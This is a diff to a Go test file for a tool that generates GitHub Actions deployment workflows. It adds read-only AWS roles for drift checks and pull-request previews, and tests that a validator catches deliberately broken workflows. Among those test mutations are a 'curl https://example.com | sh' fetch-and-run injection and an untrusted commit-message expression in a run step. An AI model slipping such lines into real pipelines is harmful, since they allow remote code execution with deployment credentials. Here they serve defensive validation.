@@ -85,8 +85,14 @@ var (
 		"    environments: [dev-small]\n    provider: arn:aws:iam::111111111111:oidc-provider/token.actions.githubusercontent.com\n" +
 		"    role: arn:aws:iam::111111111111:role/dev-deploy\n  slipway:env:"}
 	devBranch  = [3]string{"Pulumi.dev.yaml", "  slipway:env:", "  slipway:github:\n    repository: example/site\n    branches: [trunk]\n  slipway:env:"}
-	prodBranch = [3]string{"Pulumi.prod.yaml", "    environments: [production]", "    environments: [production]\n    branches: [main]"}
-	amd64      = [3]string{"Pulumi.dev.yaml", "architecture: arm64", "architecture: amd64"}
+	prodBranch = [3]string{"Pulumi.prod.yaml", "    readBranches: [main]", "    branches: [main]"}
+	prodAlone  = [3]string{"Pulumi.prod.yaml", "    readBranches: [main]\n", ""}
+	prodRead   = [3]string{"Pulumi.prod.yaml", "    readBranches: [main]", "    readBranches: [main]\n" +
+		"    provider: arn:aws:iam::111111111111:oidc-provider/token.actions.githubusercontent.com\n" +
+		"    readRole: arn:aws:iam::111111111111:role/prod-read"}
+	devPulls = [3]string{"Pulumi.dev.yaml", "  slipway:env:", "  slipway:github:\n    repository: example/site\n    branches: [trunk]\n" +
+		"    readPullRequests: true\n  slipway:env:"}
+	amd64 = [3]string{"Pulumi.dev.yaml", "architecture: arm64", "architecture: amd64"}
 )
 
 func rendered(t *testing.T, root string, path ...string) (*pipeline, map[string][]byte, []string) {
@@ -127,6 +133,8 @@ func TestWorkflowsKeepTheirPromises(t *testing.T) {
 		"this repository":        "../..",
 		"with a role":            project(t, devRole, prodBranch, amd64),
 		"a role trusts branches": project(t, devBranch),
+		"nobody only looks":      project(t, prodAlone),
+		"pull requests look":     project(t, devPulls, prodRead),
 	} {
 		t.Run(name, func(t *testing.T) {
 			p, files, _ := rendered(t, root)
@@ -141,7 +149,7 @@ func TestWorkflowsKeepTheirPromises(t *testing.T) {
 
 // TestBrokenPromisesAreSeen breaks each promise once.
 func TestBrokenPromisesAreSeen(t *testing.T) {
-	p, files, _ := rendered(t, "../..")
+	p, files, _ := rendered(t, project(t, devPulls))
 	for _, c := range []struct{ file, old, new, want string }{
 		{"deploy.yml", "@a03048d87541d1d9fcf2ecf528a4a65ba9bd7838 # v5.0.0", "@v5", "not pinned"},
 		{"deploy.yml", "permissions: {}", "permissions: {contents: write}", "top level"},
@@ -157,6 +165,11 @@ func TestBrokenPromisesAreSeen(t *testing.T) {
 		{"deploy.yml", "exec bin/slipway up", "exec bin/slipway up ${{ github.event.head_commit.message }}", "expression"},
 		{"deploy.yml", "exec bin/slipway up", "curl https://example.com | sh; bin/slipway up", "one command"},
 		{"deploy.yml", "          persist-credentials: false\n", "", "persist"},
+		{"drift.yml", "${{ vars.SLIPWAY_PROD_READ_ROLE }}", "${{ vars.SLIPWAY_PROD_ROLE }}", "prod: only looks at prod, with the rights"},
+		{"pull-request.yml", "${{ vars.SLIPWAY_DEV_READ_ROLE }}", "${{ vars.SLIPWAY_DEV_ROLE }}", "preview: only looks at dev, with the rights"},
+		{"drift.yml", "    if: vars.SLIPWAY_PROD_READ_ROLE != ''\n", "    environment: production\n", "trusts no environment"},
+		{"drift.yml", "${{ vars.SLIPWAY_DEV_ROLE }}", "${{ vars.SLIPWAY_DEV_READ_ROLE }}", "dev: a role that trusts no branch"},
+		{"deploy.yml", "${{ vars.SLIPWAY_PROD_ROLE }}", "${{ vars.SLIPWAY_PROD_READ_ROLE }}", "prod: changes prod with a role that only looks"},
 		{"pull-request.yml", "github.event.pull_request.head.repo.full_name == github.repository &&", "", "fork"},
 		{"pull-request.yml", "pull_request:", "pull_request_target:", "pull_request_target"},
 		{"pull-request.yml", "      pull-requests: write\n", "      pull-requests: write\n      id-token: write\n", "id-token"},
@@ -176,7 +189,8 @@ func TestBrokenPromisesAreSeen(t *testing.T) {
 var (
 	pinned   = regexp.MustCompile(`^ *(- )?uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$`)
 	command  = regexp.MustCompile(`^(exec bin/slipway [^;&|` + "`" + `]+|go (build|vet|test) [\w ./-]+|mkdir -p changes)$`)
-	changing = regexp.MustCompile(` (up|promote|rollback|destroy|drift) .*--live`)
+	changing = regexp.MustCompile(` (up|promote|rollback|destroy) .*--live`)
+	looking  = regexp.MustCompile(` (drift|preview) .*--live`)
 	stackOf  = regexp.MustCompile(` --(?:stack|to) ([\w.-]+)`)
 )
 
@@ -207,11 +221,11 @@ func broken(p *pipeline, text []byte) (wrong []string) {
 		say("it has no jobs")
 	}
 	for name, j := range w.Jobs {
-		credentials, writes, asks, lives, heals := false, false, false, "", ""
+		credentials, writes, asks, lives, heals, looks, role := false, false, false, "", "", "", ""
 		for _, s := range j.Steps {
 			switch {
 			case strings.HasPrefix(s.Uses, "aws-actions/configure-aws-credentials@"):
-				credentials = true
+				credentials, role = true, s.With["role-to-assume"]
 				if s.With["role-to-assume"] == "" || s.With["aws-region"] == "" {
 					say("%s: credentials without a role or a region: %v", name, s.With)
 				}
@@ -247,6 +261,8 @@ func broken(p *pipeline, text []byte) (wrong []string) {
 				}
 			case changing.MatchString(s.Run):
 				lives = stack
+			case looking.MatchString(s.Run):
+				looks = stack
 			}
 			if strings.Contains(s.Run, "--live") && !credentials {
 				say("%s: goes to an account without credentials: %s", name, s.Run)
@@ -271,15 +287,35 @@ func broken(p *pipeline, text []byte) (wrong []string) {
 		if j.Timeout < 1 || j.Timeout > 60 {
 			say("%s: no end within an hour, which is as long as credentials last", name)
 		}
-		if lives != "" {
-			if j.Concurrency == nil || j.Concurrency.Group != "slipway-"+lives {
-				say("%s: must wait in the queue slipway-%s", name, lives)
+		// A look at night waits its turn, so that it sees no deployment half done; a pull request's does not.
+		if queue := lives + looks; queue != "" && !pull {
+			if j.Concurrency == nil || j.Concurrency.Group != "slipway-"+queue {
+				say("%s: must wait in the queue slipway-%s", name, queue)
 			} else if j.Concurrency.Cancel == nil || *j.Concurrency.Cancel {
 				say("%s: may be cancelled in the middle of a deployment", name)
 			}
-			if heals != lives {
-				say("%s: heals no lock of %s when it is cut short", name, lives)
-			}
+		}
+		i := slices.IndexFunc(p.Path, func(s *ciStack) bool { return s.Name == lives+looks })
+		if i < 0 {
+			continue
+		}
+		s := p.Path[i]
+		readOnly := regexp.MustCompile(`_READ_ROLE|-read$`).MatchString(role)
+		switch mayRead := s.Watch.ReadOnly && !pull || s.Preview.ReadOnly && pull; {
+		case lives != "" && readOnly:
+			say("%s: changes %s with a role that only looks", name, lives)
+		case lives == "" && mayRead && !readOnly:
+			say("%s: only looks at %s, with the rights of a deployment: %s", name, looks, role)
+		case readOnly && !mayRead:
+			say("%s: a role that trusts no branch and no pull request of %s: %s", name, looks, role)
+		case readOnly && j.Environment != "":
+			say("%s: the read role trusts no environment", name)
+		}
+		if !readOnly && !pull && heals != lives+looks {
+			say("%s: heals no lock of %s when it is cut short", name, lives+looks)
+		}
+		if readOnly && (heals != "" || asks) {
+			say("%s: frees %s with a role that cannot", name, looks)
 		}
 	}
 	return wrong
@@ -310,6 +346,60 @@ func TestProtectedStacksAreApproved(t *testing.T) {
 	}
 }
 
+// A look with the read role wakes nobody and waits for nobody. Without one, who owns the stack is told how to get there.
+func TestLooksAskNobodyWhereTheyOnlyRead(t *testing.T) {
+	for _, c := range []struct {
+		name      string
+		edits     [][3]string
+		drift     string // the lines of prod's job at night that say its rights
+		preview   string // those of the pull request's, "" if there is none
+		want, not string // among the notes
+	}{
+		{"this repository", nil,
+			"role-to-assume: ${{ vars.SLIPWAY_PROD_READ_ROLE }}", `environment: "dev" role-to-assume: ${{ vars.SLIPWAY_DEV_ROLE }}`,
+			"With github.readPullRequests in Pulumi.dev.yaml they may only look", "asks for the approval"},
+		{"roles that exist", [][3]string{devPulls, prodRead},
+			"role-to-assume: arn:aws:iam::111111111111:role/prod-read", "role-to-assume: ${{ vars.SLIPWAY_DEV_READ_ROLE }}",
+			"Pulumi.dev.yaml has no github.readRole yet: its jobs that only look wait for the repository's variable SLIPWAY_DEV_READ_ROLE", "Pulumi.prod.yaml has no github.readRole"},
+		{"nobody only looks", [][3]string{devBranch, prodAlone},
+			`environment: "production" role-to-assume: ${{ vars.SLIPWAY_PROD_ROLE }}`, "",
+			"Name the deployed branch in github.readBranches of Pulumi.prod.yaml, and it only looks and asks nobody", "Pulumi.prod.yaml has no github.readRole"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, files, notes := rendered(t, project(t, c.edits...))
+			lines := func(file, name string) string {
+				var w workflow
+				if err := yaml.Unmarshal(files[file], &w); err != nil {
+					t.Fatal(err)
+				}
+				j := w.Jobs[name]
+				if j == nil {
+					return ""
+				}
+				said := ""
+				if j.Environment != "" {
+					said = fmt.Sprintf("environment: %q ", j.Environment)
+				}
+				for _, s := range j.Steps {
+					if role := s.With["role-to-assume"]; role != "" {
+						said += "role-to-assume: " + role
+					}
+				}
+				return said
+			}
+			if got := lines("drift.yml", "prod"); got != c.drift {
+				t.Errorf("at night prod has %s, want %s", got, c.drift)
+			}
+			if got := lines("pull-request.yml", "preview"); got != c.preview {
+				t.Errorf("a pull request has %s, want %s", got, c.preview)
+			}
+			if said := strings.Join(notes, "\n"); !strings.Contains(said, c.want) || strings.Contains(said, c.not) {
+				t.Errorf("the notes are\n%s\nwant a word about %q and none about %q", said, c.want, c.not)
+			}
+		})
+	}
+}
+
 func TestRolesComeFromTheStacks(t *testing.T) {
 	_, files, notes := rendered(t, project(t, devRole, amd64))
 	deploy := string(files["deploy.yml"])
@@ -325,7 +415,7 @@ func TestRolesComeFromTheStacks(t *testing.T) {
 		}
 	}
 	said := strings.Join(notes, "\n")
-	if strings.Contains(said, "Pulumi.dev.yaml") || !strings.Contains(said, "Pulumi.staging.yaml has no github.role yet") {
+	if strings.Contains(said, "Pulumi.dev.yaml has no") || !strings.Contains(said, "Pulumi.staging.yaml has no github.role yet") {
 		t.Errorf("the notes are %s", said)
 	}
 }
@@ -419,7 +509,7 @@ func TestWorkflowsPassActionlint(t *testing.T) {
 		return string(out), err
 	}
 	_, files, _ := rendered(t, "../..")
-	for _, root := range []string{"../..", project(t, devRole, prodBranch, amd64), project(t, devBranch)} {
+	for _, root := range []string{"../..", project(t, devRole, prodBranch, amd64), project(t, devBranch), project(t, devPulls, prodRead)} {
 		_, files, _ := rendered(t, root)
 		if out, err := check(files); err != nil {
 			t.Errorf("%v\n%s", err, out)
